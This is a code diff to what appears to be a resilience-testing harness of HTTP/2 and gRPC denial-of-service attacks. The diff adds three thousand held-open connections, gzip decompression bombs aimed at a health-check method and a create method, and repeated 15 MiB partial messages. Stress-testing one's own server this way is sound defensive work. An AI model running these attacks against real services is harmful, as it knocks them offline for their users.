@@ -4,6 +4,7 @@ The job comes as JSON on standard input. Each attack is bounded by its seconds a
 """
 
 import asyncio
+import gzip
 import itertools
 import json
 import sys
@@ -162,6 +163,11 @@ async def silent(attack: Attack) -> int:
     return sum(counts)
 
 
+async def many_connections(attack: Attack) -> int:
+    """Three thousand connections that have begun to speak HTTP/2."""
+    return await _held(attack, 3_000, http2.PREFACE + http2.settings(), lambda _: b"")
+
+
 async def slow_drip(attack: Attack) -> int:
     """A thousand calls whose bodies come byte by byte."""
     block, streams = http2.request_headers(_CREATE, attack.token), range(1, 101, 2)
@@ -197,7 +203,7 @@ async def malformed_streams(attack: Attack) -> int:
 
 
 async def partial_messages(attack: Attack) -> int:
-    """A hundred streams, of which each sends 15 MiB but for the last byte, as fast as it is let. The bytes sent."""
+    """A hundred streams, again and again, of which each sends 15 MiB but for the last byte. The bytes sent."""
     return await _partial_messages(attack, _APPEND)
 
 
@@ -207,47 +213,72 @@ async def partial_messages_for_reflection(attack: Attack) -> int:
 
 
 async def _partial_messages(attack: Attack, method: str) -> int:
-    size = 15 * _MIB
+    body = memoryview(http2.message(bytes(15 * _MIB)))[:-1]
+    block = http2.request_headers(method, attack.token)
+    return await _send_again(attack, 4, block, body, streams=25)
+
+
+async def bombs_for_health(attack: Attack) -> int:
+    """15 MiB of zeros, which gzip makes 15 KiB of, fifty at once on each of eight connections. The bytes sent."""
+    return await _bombs(attack, "/grpc.health.v1.Health/Check")
+
+
+async def bombs(attack: Attack) -> int:
+    """The same to a method that takes items."""
+    return await _bombs(attack, _CREATE)
+
+
+async def _bombs(attack: Attack, method: str) -> int:
+    body = memoryview(http2.message(gzip.compress(bytes(15 * _MIB)), compressed=True))
+    block = http2.request_headers(method, attack.token, grpc_encoding="gzip")
+    return await _send_again(attack, 8, block, body, streams=50, last=Flag.END_STREAM)
+
+
+async def _send_again(attack: Attack, connections: int, *what: Any, **more: Any) -> int:
+    """Sends the same on new connections, at most twice a second: no flood of calls. The bytes sent."""
     end = time.monotonic() + attack.seconds
 
     async def one() -> int:
-        host, _, port = attack.address.rpartition(":")
-        reader, writer = await asyncio.open_connection(host, int(port))
-        left = dict.fromkeys(range(1, 51, 2), size - 1)
-        block = http2.request_headers(method, attack.token)
-        start = http2.message(bytes(size))[:5]
-        writer.write(http2.PREFACE + http2.settings(HEADER_TABLE_SIZE=0))
-        for stream in left:
-            writer.write(http2.frame(Kind.HEADERS, stream, block, Flag.END_HEADERS))
-            writer.write(http2.frame(Kind.DATA, stream, start))
-        try:
-            return await _send(end, reader, writer, left)
-        finally:
-            writer.transport.abort()
+        sent = 0
+        while time.monotonic() < end:
+            sent += await _send(attack, end, *what, **more)
+            await asyncio.sleep(0.5)
+        return sent
 
-    return sum(await asyncio.gather(*(one() for _ in range(4))))
+    return sum(await asyncio.gather(*(one() for _ in range(connections))))
 
 
-async def _send(end: float, reader: asyncio.StreamReader, writer: asyncio.StreamWriter, left: dict[int, int]) -> int:
-    """Sends zeros on each stream until none is ``left``, as the windows permit, and then waits. The bytes sent."""
-    flow, frames, sent, zeros = http2.FlowControl(), http2.Frames(), 0, bytes(http2.MAX_FRAME)
-    for stream in left:
-        flow.take(stream, 5)
+async def _send(
+    attack: Attack, end: float, block: bytes, body: memoryview, streams: int, last: Flag = Flag.NONE
+) -> int:
+    """Sends ``body`` on each stream of a new connection, as its windows permit, until all have ended. The bytes sent.
+
+    ``end``: when to leave anyway. ``last``: the flags of the last frame of a stream.
+    """
+    host, _, port = attack.address.rpartition(":")
+    reader, writer = await asyncio.open_connection(host, int(port))
+    flow, frames, sent = http2.FlowControl(), http2.Frames(), 0
+    left = dict.fromkeys(range(1, 2 * streams, 2), body)
+    writer.write(http2.PREFACE + http2.settings(HEADER_TABLE_SIZE=0))
+    writer.writelines(http2.frame(Kind.HEADERS, stream, block, Flag.END_HEADERS) for stream in left)
     with suppress(OSError, TimeoutError):
-        async with asyncio.timeout_at(asyncio.get_running_loop().time() + end - time.monotonic()):
-            while data := await reader.read(256 * 1024):
+        async with asyncio.timeout(end - time.monotonic()):
+            while left and (data := await reader.read(256 * 1024)):
                 for kind, flags, stream, payload in frames.feed(data):
                     flow.update(kind, flags, stream, payload)
                     if kind in {Kind.SETTINGS, Kind.PING} and not flags & Flag.ACK:
                         writer.write(http2.frame(Kind(kind), 0, payload if kind == Kind.PING else b"", Flag.ACK))
                     if kind == Kind.RST_STREAM or (kind == Kind.HEADERS and flags & Flag.END_STREAM):
                         left.pop(stream, None)
-                for stream in tuple(left):
-                    while room := flow.take(stream, left[stream]):
-                        writer.write(http2.frame(Kind.DATA, stream, zeros[:room]))
-                        left[stream] -= room
+                for stream, rest in left.items():
+                    while room := flow.take(stream, len(rest)):
+                        flag = last if room == len(rest) else Flag.NONE
+                        writer.write(http2.frame(Kind.DATA, stream, rest[:room], flag))
+                        rest = rest[room:]  # noqa: PLW2901
                         sent += room
+                    left[stream] = rest
                 await writer.drain()
+    writer.transport.abort()
     return sent
 
 
@@ -382,6 +413,7 @@ ATTACKS: dict[str, Work] = {
         continuation_flood,
         empty_data_flood,
         silent,
+        many_connections,
         slow_drip,
         zero_window,
         malformed_streams,
@@ -394,6 +426,8 @@ ATTACKS: dict[str, Work] = {
         many_bodies,
         many_bodies_for_small,
         many_bodies_for_health,
+        bombs_for_health,
+        bombs,
         many_bodies_of_four,
         idle_streams,
         health_watches,
